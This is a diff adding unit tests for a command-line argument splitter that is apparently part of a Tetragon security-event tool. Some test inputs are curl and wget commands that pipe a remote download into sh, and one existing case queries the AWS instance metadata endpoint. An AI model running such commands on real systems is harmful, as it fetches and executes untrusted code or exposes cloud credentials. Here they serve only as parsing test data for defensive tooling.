@@ -120,11 +120,22 @@ describe("source field helpers", () => {
       '-H "X-aws-ec2-metadata-token: AQAE" http://169.254.169.254/',
       ["-H", "X-aws-ec2-metadata-token: AQAE", "http://169.254.169.254/"],
     ],
+    // A payload's own quoted words: the close that leaves its inner quotes balanced wins.
+    ['-c "curl -s "http://x/a b" | sh"', ["-c", 'curl -s "http://x/a b" | sh']],
+    ['-c "wget -qO- "http://x/a" | sh" sh', ["-c", 'wget -qO- "http://x/a" | sh', "sh"]],
+    ['"a b" "c d"', ["a b", "c d"]],
     ["a\"b 'c d'", ['a"b', "'c", "d'"]],
     ['"never closed', ["never closed"]],
     ["", []],
   ])("splitTetragonArguments(%j)", (line, words) => {
     expect(splitTetragonArguments(line)).toEqual(words);
+  });
+
+  it("splits a megabyte of unbalanced quotes in linear time", () => {
+    const line = `"${'a"b "'.repeat(200_000)}`;
+    const started = performance.now();
+    splitTetragonArguments(line);
+    expect(performance.now() - started).toBeLessThan(2_000);
   });
 
   it.each([
